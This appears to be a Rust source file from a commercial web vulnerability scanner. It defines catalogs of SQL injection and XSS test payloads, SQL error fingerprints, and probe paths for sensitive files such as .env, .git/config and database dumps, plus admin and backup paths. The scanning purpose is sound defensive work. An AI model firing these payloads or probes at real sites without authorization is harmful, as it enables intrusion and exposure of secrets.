// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Bountyy Oy - Payload Catalogs
 * Static, mode-dependent parameter names, attack payloads and probe paths
 *
 * @copyright 2026 Bountyy Oy
 * @license Proprietary - Enterprise Edition
 */

use crate::types::ScanMode;

/// Catalog key; combined with a `ScanMode` it selects one ordered list
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Catalog {
    SqliParameters,
    SqliPayloads,
    XssParameters,
    XssPayloads,
    SensitiveFiles,
    DirectoryListingPaths,
    AdminPaths,
    BackupFiles,
}

const SQLI_PARAMETERS: &[&str] = &[
    "id", "user", "search", "q", "page",
    "query", "name", "email", "pid", "uid", "category", "product",
];

const SQLI_PAYLOADS_QUICK: &[&str] = &[
    "' OR '1'='1",
    "' OR '1'='1' -- ",
    "' UNION SELECT NULL-- ",
    "' OR IF(1=1, SLEEP(2), 0)-- ",
    "admin'--",
    "' OR 1=1-- ",
];

const SQLI_PAYLOADS_COMPREHENSIVE: &[&str] = &[
    "' OR '1'='1",
    "' OR '1'='1' -- ",
    "' OR '1'='1' /* ",
    "' UNION SELECT NULL-- ",
    "' UNION SELECT NULL, NULL-- ",
    "' UNION SELECT NULL, NULL, NULL-- ",
    "' AND 1=1-- ",
    "' AND 1=2-- ",
    "' OR 1=1-- ",
    "' OR IF(1=1, SLEEP(3), 0)-- ",
    "admin'--",
    "' OR 'x'='x",
    "1' OR '1'='1",
    "') OR ('1'='1",
    "' WAITFOR DELAY '00:00:03'-- ",
];

/// Database error fingerprints, matched against the lower-cased body
pub const SQL_ERROR_FINGERPRINTS: &[&str] = &[
    "sql syntax",
    "mysql",
    "mysqli",
    "database error",
    "warning: mysql",
    "unclosed quotation mark",
    "quoted string not properly terminated",
    "pg_query",
    "postgresql",
    "syntax error",
    "sqlstate",
    "ora-",
    "microsoft sql",
    "odbc sql server driver",
    "sql server",
    "sqlite",
    "sqlite3",
    "mariadb",
];

/// Markers of payloads that ask the database to stall
pub const TIME_DELAY_MARKERS: &[&str] = &["SLEEP", "WAITFOR"];

const XSS_PARAMETERS: &[&str] = &[
    "q", "search", "query", "name", "comment",
    "message", "text", "input", "title", "description",
];

const XSS_PAYLOADS_QUICK: &[&str] = &[
    r#"<script>alert("XSS")</script>"#,
    r#"<img src=x onerror=alert("XSS")>"#,
    r#"<svg onload=alert("XSS")>"#,
    "';alert('XSS');//",
];

const XSS_PAYLOADS_COMPREHENSIVE: &[&str] = &[
    r#"<script>alert("XSS")</script>"#,
    r#"<img src=x onerror=alert("XSS")>"#,
    r#"<svg onload=alert("XSS")>"#,
    r#"<iframe src="javascript:alert('XSS')">"#,
    r#"<body onload=alert("XSS")>"#,
    r#"<input onfocus=alert("XSS") autofocus>"#,
    r#""><script>alert(String.fromCharCode(88,83,83))</script>"#,
    "';alert('XSS');//",
    r#"<img src="x" onerror="alert(1)">"#,
    "javascript:alert(1)",
    "<svg><script>alert(1)</script></svg>",
    "<img src=x:alert(1)>",
    r#"<object data="javascript:alert(1)">"#,
    r#"<embed src="javascript:alert(1)">"#,
    r#"<math><mi//xlink:href="data:x,<script>alert(1)</script>">"#,
];

const SENSITIVE_FILES: &[&str] = &[
    ".env",
    ".git/config",
    "composer.json",
    "package.json",
    "config.json",
    "web.config",
    ".htaccess",
    "phpinfo.php",
    "info.php",
    "test.php",
    "db.sql",
    "backup.sql",
    "dump.sql",
    ".env.backup",
    "config.php",
    // comprehensive only
    ".DS_Store",
    "WEB-INF/web.xml",
    ".git/HEAD",
    "README.md",
    ".well-known/security.txt",
    "adminer.php",
    "phpmyadmin/",
    ".svn/entries",
    "Dockerfile",
];

/// Relative to the target; the empty entry is the target itself
const DIRECTORY_LISTING_PATHS: &[&str] = &["", "images/", "uploads/", "files/", "assets/"];

const ADMIN_PATHS: &[&str] = &[
    "/admin",
    "/administrator",
    "/wp-admin",
    "/cpanel",
    "/phpmyadmin",
    "/adminer",
    "/manager",
    "/admin.php",
    "/login",
    "/admin/login",
];

const BACKUP_FILES: &[&str] = &[
    ".backup",
    ".bak",
    ".old",
    ".zip",
    "backup.zip",
    "backup.sql",
    "db.sql",
    "dump.sql",
];

/// Ordered catalog for (category, mode)
pub fn catalog(kind: Catalog, mode: ScanMode) -> &'static [&'static str] {
    let comprehensive = mode.is_comprehensive();
    match kind {
        Catalog::SqliParameters => take(SQLI_PARAMETERS, comprehensive, 5),
        Catalog::SqliPayloads => {
            if comprehensive {
                SQLI_PAYLOADS_COMPREHENSIVE
            } else {
                SQLI_PAYLOADS_QUICK
            }
        }
        Catalog::XssParameters => take(XSS_PARAMETERS, comprehensive, 5),
        Catalog::XssPayloads => {
            if comprehensive {
                XSS_PAYLOADS_COMPREHENSIVE
            } else {
                XSS_PAYLOADS_QUICK
            }
        }
        Catalog::SensitiveFiles => take(SENSITIVE_FILES, comprehensive, 15),
        Catalog::DirectoryListingPaths => take(DIRECTORY_LISTING_PATHS, comprehensive, 2),
        // Admin and backup probing only run in comprehensive mode
        Catalog::AdminPaths => take(ADMIN_PATHS, comprehensive, 0),
        Catalog::BackupFiles => take(BACKUP_FILES, comprehensive, 0),
    }
}

fn take(list: &'static [&'static str], comprehensive: bool, quick_len: usize) -> &'static [&'static str] {
    if comprehensive {
        list
    } else {
        &list[..quick_len.min(list.len())]
    }
}

/// Number of URLs each injection prober walks
pub fn injection_url_limit(mode: ScanMode) -> usize {
    if mode.is_comprehensive() {
        15
    } else {
        5
    }
}

/// True if the payload asks the database to sleep
pub fn is_time_delay_payload(payload: &str) -> bool {
    TIME_DELAY_MARKERS.iter().any(|marker| payload.contains(marker))
}

/// First fingerprint found in an already lower-cased body
pub fn match_sql_error(body_lower: &str) -> Option<&'static str> {
    SQL_ERROR_FINGERPRINTS
        .iter()
        .copied()
        .find(|fingerprint| body_lower.contains(fingerprint))
}
